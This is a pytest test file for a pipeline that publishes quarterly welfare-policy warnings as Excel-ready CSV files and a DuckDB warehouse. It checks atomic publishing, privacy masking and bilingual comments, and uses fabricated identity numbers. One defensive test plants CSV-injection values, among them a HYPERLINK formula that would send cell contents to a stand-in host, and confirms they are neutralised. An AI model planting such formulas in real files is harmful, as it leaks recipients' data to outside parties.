"""Publishing a quarter (outputs.md): routed files as Excel opens them, escalation copies,
re-runs that change nothing, a run killed mid-publish, and the warehouse's comments, views and
privacy."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import polars as pl
import pytest

from pipelines.core.layout import Outputs
from pipelines.core.quarters import Quarter
from pipelines.policy import catalogue
from pipelines.policy import evaluate as rules
from pipelines.publish import atomic, warehouse
from pipelines.publish import routed as outputs

Q1, Q2, Q3 = Quarter(2026, 1), Quarter(2026, 2), Quarter(2026, 3)
IDS = {"A": "350102198001011234", "B": "35010219850202234X", "C": "350128197003033456"}


def _warning(rule_id: str, who: str, county: str, routed_to: str, q: Quarter) -> dict:
    return {
        "warning_key": f"{rule_id}-{abs(hash((rule_id, who))) % 16**16:016x}",
        "quarter": str(q),
        "rule_id": rule_id,
        "rule_name_zh": "测试规则",
        "category": "POLICY_NOT_IMPLEMENTED",
        "subject_type": "PERSON",
        "id_number": IDS[who],
        "name": f"姓名{who}",
        "household_id": f"C-{who}",
        "household_source": "ROSTER",
        "county_code": county,
        "reason_zh": '原因，含逗号, and a "quote"',
        "evidence": json.dumps({"id_masked": IDS[who][:6] + "********" + IDS[who][-4:]}),
        "policy_clause": "2.(2) 教育救助",
        "routed_to": routed_to,
    }


def _quarter(out: Path, q: Quarter, warnings: list[dict]) -> None:
    """What the policy stage leaves for a quarter: raised warnings and rule runs."""
    (out / str(q) / "policy").mkdir(parents=True, exist_ok=True)
    (out / str(q) / "tables").mkdir(parents=True, exist_ok=True)
    pl.DataFrame(warnings, schema=rules.WARNING_SCHEMA).write_parquet(
        out / str(q) / "policy" / "warnings.parquet"
    )
    runs = [
        {
            "quarter": str(q),
            "rule_id": r.rule_id,
            "status": "EVALUATED",
            "reason": None,
            "warnings_raised": 0,
            "parameters": "{}",
            "rule_version": "1+x",
            "window_quarters": None,
        }
        for r in catalogue.catalogue()
    ]
    pl.DataFrame(runs, schema=rules.RULE_RUN_SCHEMA).write_parquet(
        out / str(q) / "tables" / "rule_runs.parquet"
    )


def _three_quarters(out: Path, key: bytes) -> None:
    for q in (Q1, Q2, Q3):
        _quarter(
            out,
            q,
            [
                _warning("PNI_EDUCATION_AID", "A", "350102", "moe", q),
                _warning("PNI_MEDICAL_ENROLMENT", "B", "350102", "nhsa", q),
                _warning("PNI_EDUCATION_AID", "C", "350128", "moe", q),
            ]
            + ([_warning("NLE_DECEASED", "A", "350102", "mca", q)] if q == Q3 else []),
        )
        outputs.publish(out, q, key)
        warehouse.load_quarter(out, str(q))


def test_routed_files_open_in_excel_sorted_with_escalation_copies(out: Path, pseudonym_key):
    _three_quarters(out, pseudonym_key.encode())
    routed = out / str(Q3) / "routed"
    files = sorted(p.relative_to(routed).as_posix() for p in routed.rglob("*.csv"))
    assert files == [
        "county_coordination/350102.csv",
        "county_coordination/350128.csv",
        "mca/350102.csv",
        "moe/350102.csv",
        "moe/350128.csv",
        "nhsa/350102.csv",
    ]
    raw = (routed / "moe" / "350102.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel on a Chinese desktop reads it
    frame = pl.read_csv(routed / "moe" / "350102.csv", infer_schema=False)
    assert tuple(frame.columns) == outputs.ROUTED_COLUMNS
    assert frame["status"].to_list() == ["ESCALATED"] and frame["quarters_open"][0] == "3"
    assert frame["id_number"].to_list() == [IDS["A"]] and frame["name"][0] == "姓名A"
    assert frame["reason_zh"][0] == '原因，含逗号, and a "quote"'
    copies = pl.read_csv(routed / "county_coordination" / "350102.csv", infer_schema=False)
    assert copies["rule_id"].to_list() == ["PNI_EDUCATION_AID", "PNI_MEDICAL_ENROLMENT"]
    assert copies["routed_to"].to_list() == ["moe", "nhsa"]  # the owning department
    assert copies["warning_key"].to_list() == sorted(copies["warning_key"].to_list())
    mca = pl.read_csv(routed / "mca" / "350102.csv", infer_schema=False)
    assert mca["status"].to_list() == ["NEW"]  # not escalated: no copy
    for q, expected in ((Q1, "NEW"), (Q2, "RECURRING")):
        moe = pl.read_csv(out / str(q) / "routed" / "moe" / "350102.csv", infer_schema=False)
        assert moe["status"].to_list() == [expected]
        assert not (out / str(q) / "routed" / "county_coordination").exists()


@pytest.mark.parametrize(
    "planted",
    [
        '=HYPERLINK("http://x.example/?d="&A1,"点击")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tcmd",
        "\r=1",
    ],
)
def test_a_name_that_would_be_a_formula_in_excel_is_written_as_text(out, pseudonym_key, planted):
    """OWASP CSV injection: a department's name or household number beginning with = + - @, a
    tab or a carriage return reaches the routed file with a leading apostrophe, so Excel shows
    it and runs nothing; names that do not start so are written as they are."""
    bad = _warning("PNI_EDUCATION_AID", "A", "350102", "moe", Q1) | {
        "name": planted,
        "household_id": planted,
    }
    fine = _warning("PNI_EDUCATION_AID", "C", "350102", "moe", Q1) | {"name": "王-芳=@+"}
    _quarter(out, Q1, [bad, fine])
    outputs.publish(out, Q1, pseudonym_key.encode())
    frame = pl.read_csv(out / str(Q1) / "routed" / "moe" / "350102.csv", infer_schema=False)
    rows = {r["id_number"]: r for r in frame.iter_rows(named=True)}
    assert rows[IDS["A"]]["name"] == rows[IDS["A"]]["household_id"] == "'" + planted
    assert rows[IDS["C"]]["name"] == "王-芳=@+" and rows[IDS["C"]]["household_id"] == "C-C"
    for r in frame.iter_rows(named=True):  # no cell of the file starts a formula
        assert not any(re.match(outputs.FORMULA_START, v or "") for v in r.values()), r


def test_a_rerun_gives_byte_identical_files_and_the_same_warehouse_rows(out, pseudonym_key):
    _three_quarters(out, pseudonym_key.encode())

    def snapshot():
        files = {
            p.relative_to(out).as_posix(): p.read_bytes()
            for p in sorted((out / str(Q3) / "routed").rglob("*.csv"))
        }
        con = duckdb.connect(str(out / "warehouse.duckdb"), read_only=True)
        try:
            rows = {
                t: con.execute(f"select * from {t} order by all").fetchall()
                for t in warehouse.TABLES
                if t != "extract_quality" and t != "quarantine_reasons" and t != "data_findings"
            }
        finally:
            con.close()
        return files, rows

    before = snapshot()
    outputs.publish(out, Q3, pseudonym_key.encode())
    warehouse.load_quarter(out, str(Q3))
    assert snapshot() == before


def test_a_run_killed_mid_publish_leaves_the_published_quarter_readable(out, pseudonym_key):
    _three_quarters(out, pseudonym_key.encode())
    moe = out / str(Q3) / "routed" / "moe" / "350102.csv"
    published = moe.read_bytes()
    # the department re-sends; the re-run is killed after writing aside, before moving in
    _quarter(out, Q3, [_warning("PNI_EDUCATION_AID", "B", "350102", "moe", Q3)])
    code = (
        "import sys, time; from pathlib import Path; "
        "from pipelines.publish import atomic, routed; "
        "from pipelines.core.quarters import Quarter; "
        # the pause is injected here: everything is written aside, nothing moved in yet
        "atomic.move_into_place = lambda *a: time.sleep(60); "
        "routed.publish(Path(sys.argv[1]), Quarter.parse('2026Q3'), sys.argv[2].encode())"
    )
    proc = subprocess.Popen([sys.executable, "-c", code, str(out), pseudonym_key])
    deadline = time.monotonic() + 60
    while not list((out / str(Q3)).glob(".publish-*/tables/warnings.parquet")):
        assert time.monotonic() < deadline and proc.poll() is None
        time.sleep(0.1)
    proc.kill()
    proc.wait()
    assert moe.read_bytes() == published  # the old quarter, whole
    assert pl.read_parquet(out / str(Q3) / "tables" / "warnings.parquet").height == 4
    # the next run clears what the killed one left and publishes the new files
    outputs.publish(out, Q3, pseudonym_key.encode())
    assert not list((out / str(Q3)).glob(".publish-*"))
    assert pl.read_csv(moe, infer_schema=False)["id_number"].to_list() == [IDS["B"]]


def test_a_leftover_that_cannot_be_removed_leaves_the_quarter_published(
    out, pseudonym_key, monkeypatch, caplog
):
    """Removing the replaced routed folder comes after the new one is in place: if it fails
    (a file held open), the quarter is published all the same, the failure is logged, and the
    next run of the quarter removes the leftover."""
    import shutil

    _three_quarters(out, pseudonym_key.encode())
    real = shutil.rmtree

    def refuse(path, *args, **kwargs):
        # the old folder, wherever the swap left it: in the publishing folder after an exchange
        # (Linux), as routed.old-<pid> after two renames
        if "routed.old-" in str(path) or ".publish-" in str(path):
            raise PermissionError(13, "held open", str(path))
        return real(path, *args, **kwargs)

    def left() -> list[Path]:
        return [*(out / str(Q3)).glob("routed.old-*"), *(out / str(Q3)).glob(".publish-*")]

    monkeypatch.setattr(shutil, "rmtree", refuse)
    outputs.publish(out, Q3, pseudonym_key.encode())
    assert left()
    assert (out / str(Q3) / "routed" / "moe" / "350102.csv").is_file()
    assert "not removed" in caplog.text
    monkeypatch.setattr(shutil, "rmtree", real)
    outputs.publish(out, Q3, pseudonym_key.encode())
    assert not left()


def test_a_run_killed_between_the_two_renames_gets_the_old_folder_back(out, pseudonym_key):
    _three_quarters(out, pseudonym_key.encode())
    routed = out / str(Q3) / "routed"
    os.rename(routed, routed.with_name("routed.old-12345"))  # where a kill could leave it
    atomic.recover(Outputs(out).quarter(Q3))
    assert (routed / "moe" / "350102.csv").is_file()


def test_every_warehouse_table_and_column_has_a_chinese_and_english_comment(out, pseudonym_key):
    _three_quarters(out, pseudonym_key.encode())
    con = duckdb.connect(str(out / "warehouse.duckdb"), read_only=True)
    try:
        tables = con.execute("select table_name, comment from duckdb_tables()").fetchall()
        columns = con.execute(
            "select table_name, column_name, comment from duckdb_columns() "
            "where not internal and table_name in (select table_name from duckdb_tables())"
        ).fetchall()
        views = dict(con.execute("select view_name, comment from duckdb_views()").fetchall())
        by_county = con.execute(
            "select quarter, county_code, category, warnings "
            "from v_warnings_by_county_category_quarter where quarter = '2026Q3'"
        ).fetchall()
        ages = con.execute(
            "select quarters_open, sum(cases) from v_open_cases_by_age "
            "where quarter = '2026Q3' group by all order by all"
        ).fetchall()
        con.execute("select * from v_department_response_rates").fetchall()
    finally:
        con.close()
    assert {t for t, _ in tables} >= {"warnings", "warning_lifecycle", "rule_runs", "feedback"}
    bilingual = re.compile(r"[\u4e00-\u9fff].*/ .*[A-Za-z]")
    for name, comment in tables:
        assert comment and bilingual.search(comment), name
    for table, column, comment in columns:
        assert comment and bilingual.search(comment), (table, column)
    for view in warehouse.VIEWS:
        assert views[view] and bilingual.search(views[view]), view
    assert sorted(by_county) == [
        ("2026Q3", "350102", "POLICY_NOT_IMPLEMENTED", 3),
        ("2026Q3", "350128", "POLICY_NOT_IMPLEMENTED", 1),
    ]
    assert ages == [(1, 1), (3, 3)]


def test_the_warehouse_holds_no_identity_number_or_name(out, pseudonym_key):
    _three_quarters(out, pseudonym_key.encode())
    con = duckdb.connect(str(out / "warehouse.duckdb"), read_only=True)
    try:
        text = []
        for (table,) in con.execute("select table_name from duckdb_tables()").fetchall():
            frame = con.sql(f"select * from {table}").pl()
            text.append(frame.select(pl.all().cast(pl.String)).write_csv())
    finally:
        con.close()
    everything = "\n".join(text)
    for who, number in IDS.items():
        assert number not in everything
        assert f"姓名{who}" not in everything
    assert re.search(r"\d{6}\*{8}\d{3}[\dX]", everything)  # masked numbers are there


@pytest.fixture
def pseudonym_key(pseudonym_key):  # the conftest key, as text for the subprocess
    return pseudonym_key.decode()


def test_an_analyst_holding_the_warehouse_open_does_not_block_publishing(out, pseudonym_key):
    _three_quarters(out, pseudonym_key.encode())
    reader = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time, duckdb; "
            "con = duckdb.connect(sys.argv[1], read_only=True); "
            "print(con.execute('select count(*) from warnings').fetchall()[0][0], flush=True); "
            "sys.stdin.readline(); "
            "print(con.execute('select count(*) from warnings').fetchall()[0][0], flush=True)",
            str(out / "warehouse.duckdb"),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        before = int(reader.stdout.readline())
        _quarter(out, Q3, [_warning("PNI_EDUCATION_AID", "B", "350102", "moe", Q3)])
        outputs.publish(out, Q3, pseudonym_key.encode())
        warehouse.load_quarter(out, str(Q3))  # would fail on DuckDB's lock if written in place
        reader.stdin.write("\n")
        reader.stdin.flush()
        assert int(reader.stdout.readline()) == before  # the version the analyst opened
    finally:
        reader.kill()
        reader.wait()
    con = duckdb.connect(str(out / "warehouse.duckdb"), read_only=True)
    try:
        assert con.execute("select count(*) from warnings").fetchall()[0][0] == before - 3
    finally:
        con.close()
    assert not list(out.glob(".warehouse.duckdb.*"))
